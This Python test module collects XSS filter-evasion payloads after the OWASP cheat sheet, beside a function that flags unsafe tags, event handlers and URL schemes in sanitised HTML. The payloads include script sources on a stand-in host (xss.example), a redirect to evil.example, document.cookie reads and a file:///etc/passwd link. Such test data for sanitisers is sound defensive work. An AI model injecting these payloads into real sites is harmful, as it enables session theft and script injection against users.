# ruff: noqa: E501  (payloads read best one per line, however long)
"""XSS payloads after the OWASP XSS filter-evasion cheat sheet, and a checker for output.

The payloads are the cheat sheet's patterns written out as test data (script tags in every
casing, event handlers, `javascript:`/`vbscript:`/`data:` URLs plain, entity-encoded and
split by whitespace or NULs, svg/math/iframe/object/embed/form/style/meta/base, srcset,
style expressions, attributes that break out of their quotes, malformed and nested tags,
comments and CDATA), plus the mutation-XSS shapes that fooled sanitisers since.

`unsafe_parts()` judges sanitised HTML by parsing it with lxml, independently of the
sanitiser's own tables: what a browser would build from the output is what counts.
"""

from __future__ import annotations

import re

import lxml.html

JS = "javascript:alert('XSS')"
ENTITY_DECIMAL = "".join(f"&#{ord(c)};" for c in JS)
ENTITY_PADDED = "".join(f"&#{ord(c):07d}" for c in JS)  # no semicolons, zero-padded
ENTITY_HEX = "".join(f"&#x{ord(c):X}" for c in JS)
SVG_BASE64 = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+"  # <svg onload=alert(1)></svg>
SCRIPT_BASE64 = "PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K"  # <script>alert('XSS')</script>

PAYLOADS: dict[str, str] = {
    # script elements
    "script src": '<SCRIPT SRC="http://xss.example/xss.js"></SCRIPT>',
    "script mixed case": "<ScRiPt>alert('XSS')</sCrIpT>",
    "script with non-alpha separator": '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
    "script after extra open bracket": '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "script never closed": "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "script protocol-relative src": "<SCRIPT SRC=//xss.example/.j>",
    "script with > in attribute": '<SCRIPT a=">" SRC="httx://xss.example/xss.js"></SCRIPT>',
    "script with backtick attribute": '<SCRIPT a=`>` SRC="httx://xss.example/xss.js"></SCRIPT>',
    "script with mixed quotes": '<SCRIPT a=">\'>" SRC="httx://xss.example/xss.js"></SCRIPT>',
    "script split by comment": "<scr<!-- -->ipt>alert(1)</script>",
    "script after closing title": '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    "script in conditional comment": "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "script in CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "script in template": "<template><script>alert(1)</script></template>",
    "script in xmp": "<xmp><script>alert(1)</script></xmp>",
    "script in textarea": "<textarea><script>alert(1)</script></textarea>",
    "script in noembed": "<noembed><script>alert(1)</script></noembed>",
    "escaped script text stays text": "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    # javascript: URLs
    "img javascript src": f'<IMG SRC="{JS};">',
    "img javascript unquoted": "<IMG SRC=javascript:alert('XSS')>",
    "img javascript mixed case": "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "img javascript with entity quotes": "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "img javascript in backticks": "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "img javascript fromCharCode": "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "img decimal entities": f"<IMG SRC={ENTITY_DECIMAL}>",
    "img padded decimal entities": f"<IMG SRC={ENTITY_PADDED}>",
    "img hex entities": f"<IMG SRC={ENTITY_HEX}>",
    "img embedded tab": "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "img encoded tab": "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "img encoded newline": "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "img encoded carriage return": "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "img NUL in scheme": '<IMG SRC=java\x00script:alert("XSS")>',
    "img leading spaces and control": "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "img half-open tag": "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "img dynsrc and lowsrc": f'<IMG DYNSRC="{JS}"><IMG LOWSRC="{JS}">',
    "a javascript href": "<A HREF=\"javascript:document.location='http://evil.example/'\">XSS</A>",
    "a javascript entity colon": '<a href="javascript&colon;alert(1)">x</a>',
    "a javascript first letter entity": '<a href="&#x6A;avascript:alert(1)">x</a>',
    "a javascript leading unicode spaces": '<a href="\u00a0\u2028javascript:alert(1)">x</a>',
    "a javascript zero-width": '<a href="java\u200bscript:alert(1)">x</a>',
    "a javascript in title trick": '<a href="x" title="javascript:alert(1)">x</a>',
    "input image javascript": f'<INPUT TYPE="IMAGE" SRC="{JS};">',
    "body background javascript": f'<BODY BACKGROUND="{JS}">',
    "table background javascript": f'<TABLE BACKGROUND="{JS}"><TR><TD BACKGROUND="{JS}">x</TD></TR></TABLE>',
    "bgsound javascript": f'<BGSOUND SRC="{JS};">',
    "link stylesheet javascript": f'<LINK REL="stylesheet" HREF="{JS};">',
    "blockquote cite javascript": f'<blockquote cite="{JS}">quote</blockquote>',
    "q cite javascript": f'<q cite="{JS}">quote</q>',
    # other schemes
    "img vbscript": "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "a vbscript": '<a href="VBScript:msgbox(1)">x</a>',
    "a livescript": '<a href="livescript:[code]">x</a>',
    "a data html base64": f'<a href="data:text/html;base64,{SCRIPT_BASE64}">x</a>',
    "img data svg": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "img data mixed case": f'<img src="DaTa:image/svg+xml;base64,{SVG_BASE64}">',
    "a file url": '<a href="file:///etc/passwd">x</a>',
    "a jar url": '<a href="jar:http://evil.example/a.jar!/x.html">x</a>',
    "a ms-its url": '<a href="ms-its:mhtml:file://C:/x.mht!http://evil.example/x">x</a>',
    # event handlers
    "a onmouseover quoted": '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "a onmouseover unquoted": "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "img onmouseover with hash src": "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "img empty src onmouseover": "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "img no src onmouseover": "<IMG onmouseover=\"alert('xxs')\">",
    "img onerror fromCharCode": '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "img onerror entity encoded": f'<img src=x onerror="{ENTITY_PADDED}">',
    "img real src with onerror": '<img src="https://cdn.example/a.png" onerror="alert(1)">',
    "body onload": "<BODY ONLOAD=alert('XSS')>",
    "body odd attribute name": '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "details ontoggle": "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "marquee onstart": "<marquee onstart=alert(1)>x</marquee>",
    "video source onerror": "<video><source onerror=alert(1)></video>",
    "audio onerror": "<audio src=x onerror=alert(1)>",
    "input autofocus onfocus": "<input onfocus=alert(1) autofocus>",
    "keygen onfocus": "<keygen autofocus onfocus=alert(1)>",
    "p onclick": '<p onclick="alert(1)" ONCLICK="alert(2)">paragraph</p>',
    "span onpointerenter": '<span onpointerenter="alert(1)">text</span>',
    # svg and math
    "svg onload": "<svg/onload=alert('XSS')>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg xlink javascript": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "svg animate href": '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    "math href": '<math href="javascript:alert(1)">CLICK</math>',
    "math mglyph style mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "svg foreignObject": "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    # frames, objects, embeds, forms
    "iframe javascript": f'<IFRAME SRC="{JS};"></IFRAME>',
    "iframe onmouseover": '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe double open bracket": "<iframe src=http://xss.example/scriptlet.html <",
    "frameset frame": f'<FRAMESET><FRAME SRC="{JS};"></FRAMESET>',
    "object scriptlet": '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/s.html"></OBJECT>',
    "object javascript data": '<object data="javascript:alert(1)"></object>',
    "embed svg data": f'<EMBED SRC="data:image/svg+xml;base64,{SVG_BASE64}" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    "applet": '<applet code="Evil.class" codebase="http://evil.example/"></applet>',
    "form action": '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
    "isindex action": "<isindex action=javascript:alert(1) type=image>",
    # style
    "style list-style-image": "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "style import": "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
    "style broken-up import": "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "style moz-binding": '<STYLE>BODY{-moz-binding:url("http://xss.example/xssmoz.xml#xss")}</STYLE>',
    "style attribute expression": "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "style attribute behavior": '<XSS STYLE="behavior: url(xss.htc);">x</XSS>',
    "div background javascript": "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "div unicode-escaped style": "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0027\\0058\\0053\\0053\\0027\\0029'\\0029\">x</DIV>",
    "div width expression": "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    # meta, base, link
    "meta refresh javascript": '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "meta refresh data": f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,{SCRIPT_BASE64}">',
    "meta link stylesheet": '<META HTTP-EQUIV="Link" Content="<http://xss.example/xss.css>; REL=stylesheet">',
    "base javascript": "<BASE HREF=\"javascript:alert('XSS');//\">",
    # srcset and lazy-loading attributes
    "img srcset javascript": '<img src="/ok.jpg" srcset="javascript:alert(1) 1x, /b.jpg 2x">',
    "img data-src javascript": '<img data-src="javascript:alert(1)">',
    "img data-srcset javascript": '<img data-srcset="javascript:alert(1) 2x">',
    "picture source srcset": '<picture><source srcset="javascript:alert(1)"><img src="/a.jpg"></picture>',
    # attributes that break out of their quotes
    "href breaking quotes": "<a href='x\" onclick=\"alert(1)'>q</a>",
    "alt holding a script tag": '<img alt=\'"><script>alert(1)</script>\' src="/a.jpg">',
    "title holding quotes": '<a href="https://ok.example/" title="x&quot; onclick=&quot;alert(1)">t</a>',
    "br size js include": "<BR SIZE=\"&{alert('XSS')}\">",
    "img three quotes then script": '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "width holding script": '<img src="/a.jpg" width="1 onerror=alert(1)">',
    # malformed and nested
    "xml data island": '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
    "span datasrc": '<SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML">x</SPAN>',
    "html import namespace": '<HTML xmlns:xss><?import namespace="xss" implementation="http://xss.example/xss.htc"><xss:xss>XSS</xss:xss></HTML>',
    "noscript title mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "comment hiding img": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "unclosed comment": "<!-- <script>alert(1)</script>",
    "nested anchors": '<a href="https://ok.example/"><a href="javascript:alert(1)">x</a></a>',
    "fullwidth script stays text": "<p>\uff1cscript\uff1ealert(1)\uff1c/script\uff1e</p>",
    "processing instruction": '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>',
    "plaintext swallowing the rest": "<plaintext><script>alert(1)</script>",
}

# Must survive: the near misses that a sanitiser must not over-block.
SAFE_LINKS: dict[str, tuple[str, str]] = {
    "absolute http link": ('<a href="http://192.0.2.7/">XSS</a>', "http://192.0.2.7/"),
    "protocol-relative link": ('<a href="//www.example.org/x">x</a>', "https://www.example.org/x"),
    "mailto link": ('<a href="mailto:tips@example.org">x</a>', "mailto:tips@example.org"),
    "relative link": (
        '<a href="/2024/other-story">x</a>',
        "https://news.example.com/2024/other-story",
    ),
}

FORBIDDEN_TAGS = frozenset(
    {"script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form",
     "input", "button", "textarea", "select", "svg", "math", "meta", "base", "link", "xml",
     "template", "noscript", "video", "audio", "source", "bgsound", "isindex", "keygen",
     "marquee", "details", "xmp", "plaintext", "noembed", "title", "html", "body", "head"}
)  # fmt: skip
URL_ATTRIBUTES = frozenset(
    {"href", "src", "cite", "action", "formaction", "data", "background", "dynsrc", "lowsrc",
     "poster", "xlink:href", "codebase", "longdesc", "usemap", "srcdoc", "srcset"}
)  # fmt: skip
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def _scheme(url: str) -> str:
    """The scheme a browser reads (it drops tabs, newlines and leading controls first)."""
    compact = re.sub(r"[\t\n\r]", "", url).lstrip("".join(map(chr, range(0x21))))
    scheme = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", compact)
    return scheme.group(1).lower() if scheme else "https"  # relative: the page's own


def unsafe_parts(sanitised: str) -> list[str]:
    """What in `sanitised` could run script or load active content, as a browser parses it."""
    if not sanitised.strip():
        return []
    if control := CONTROL.search(sanitised):
        return [f"control character {control.group()!r}"]  # XML consumers choke on it
    root = lxml.html.fragment_fromstring(sanitised, create_parent="div")
    found: list[str] = []
    for node in root.iter():
        if not isinstance(node.tag, str):
            found.append(f"non-element node {node!r}")
            continue
        if node.tag.lower() in FORBIDDEN_TAGS:
            found.append(f"<{node.tag}>")
        for name, value in node.attrib.items():
            name = name.lower()
            if name.startswith("on") or name in ("style", "srcset", "srcdoc", "formaction"):
                found.append(f"{node.tag}[{name}]")
            elif name in URL_ATTRIBUTES and _scheme(value) not in SAFE_SCHEMES:
                found.append(f"{node.tag}[{name}={value[:40]!r}]")
    return found
